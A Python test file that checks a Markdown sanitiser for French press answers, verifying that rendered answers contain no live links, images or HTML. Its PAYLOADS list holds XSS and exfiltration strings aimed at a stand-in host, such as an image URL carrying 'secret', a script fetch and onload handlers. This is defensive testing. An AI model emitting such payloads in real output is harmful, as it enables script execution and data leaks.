"""S5: what a client shows of an answer as Markdown fetches nothing and leads nowhere."""

from __future__ import annotations

import re
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sourcier.schema import Answer, Citation, Remark, Searched, Statement
from sourcier.services.chat_text import JOINER, inert, pieces, whole, without_sources

COMMONMARK = MarkdownIt("commonmark")
PAYLOADS = [
    "![](https://a.example/?q=secret)",
    "![x](<https://a.example/a b>)",
    "![x][1] et la suite",
    "[1]: https://a.example 'titre'",
    "[cliquez](https://a.example)",
    "[cliquez](javascript:alert(1))",
    "[a]\\(https://a.example)",
    "[a\\](https://a.example)",
    "[![](https://a.example/i.png)](https://a.example)",
    "<img src=https://a.example/i.png>",
    "\\<img src=https://a.example/i.png>",
    "<IMG/SRC=x onerror=alert(1)>",
    "<script>fetch('https://a.example')</script>",
    "<!--><img src=x>-->",
    "<?php ?><img src=x>",
    "<a href='https://a.example'>ici</a>",
    "<https://a.example>",
    "<redaction@a.example>",
    "<svg/onload=alert(1)>",
    "</p><iframe src=https://a.example>",
    "<![CDATA[<img src=x>]]>",
    "# titre\n\n![](https://a.example)",
    "1. ![](https://a.example)",
    "> [a](https://a.example)",
    "texte\n[2]: https://a.example\n[2]",
    "*[a*](https://a.example)",
    "[a]\n(https://a.example)",
    "[le maire] (https://a.example)",
]


def answer(text: str) -> Answer:
    citation = Citation(
        marker=1,
        article_id="a",
        path="a.txt",
        title=text,
        outlet=text,
        quote=text or "x",
        start=0,
        end=1,
        also_in=(text,),
    )
    statement = Statement(text=text, citations=(citation,), support="quoted")
    return Answer(
        question="Qui ?",
        searched_question="Qui ?",
        status="interrupted",
        statements=(statement, statement),
        remarks=(Remark(kind="conflict", text=text, markers=(1,)),),
        notice=text,
        searched=Searched(articles=1, earliest=date(2024, 1, 1), latest=date(2024, 1, 1)),
        language="fr",
        model="fake",
    )


def led_to(markdown: str) -> list[str]:
    """The kinds of what a Markdown reader would fetch, follow or run."""
    found = []
    for block in COMMONMARK.parse(markdown):
        for token in (block, *(block.children or ())):
            if token.type in {"link_open", "image", "html_block", "html_inline"}:
                found.append(token.type)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_is_fetched_followed_or_run(payload: str) -> None:
    assert led_to(whole(answer(payload))) == []
    assert led_to(inert(payload)) == []


@given(st.text(alphabet="[]()<>!\\:/ \n\t`*_#1ab&;'\"?-=.@", max_size=60))
def test_no_text_leads_anywhere(text: str) -> None:
    assert led_to(whole(answer(text))) == []


@pytest.mark.parametrize(
    "text",
    ["« [Le maire] a menti », dit-elle.", "Le taux est < 5 %.", "L'accord est signé (enfin) !"],
)
def test_what_the_press_writes_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
    assert pieces(answer(text)) == (f"{text} [1]", f"\n\n{text} [1]")


@pytest.mark.parametrize(
    "text",
    ["Voir https://a.example/?q=1.", "(HTTP://a.example)", "www.a.example", "WWW.a.example", "ftp://a.example"],
)
def test_an_address_is_shown_and_leads_nowhere(text: str) -> None:
    shown = inert(text)
    assert shown.replace(JOINER, "") == text
    assert re.search(r"https?://|ftp://|www\.", shown, re.IGNORECASE) is None


def test_an_earlier_answer_loses_its_list_of_sources() -> None:
    said = answer("Le port rouvre.")
    assert without_sources(whole(said)) == "\n\n".join(["Le port rouvre. [1]"] * 2 + ["Le port rouvre."] * 2)
    assert without_sources("Sources : le port.") == "Sources : le port."


def test_worded_sentences_run_on_and_a_source_stands_once() -> None:
    said = answer("Le port rouvre.")
    quoted = said.statements[0]
    first, second = (
        quoted.model_copy(
            update={"support": "supported", "citations": (quoted.citations[0].model_copy(update=update),)}
        )
        for update in ({}, {"marker": 2, "start": 1})
    )
    text = whole(said.model_copy(update={"statements": (first, second)}))
    assert text.startswith("Le port rouvre. [1] Le port rouvre. [2]\n\n")
    assert text.endswith("- [1] [2] Le port rouvre., date inconnue, Le port rouvre., Le port rouvre.")
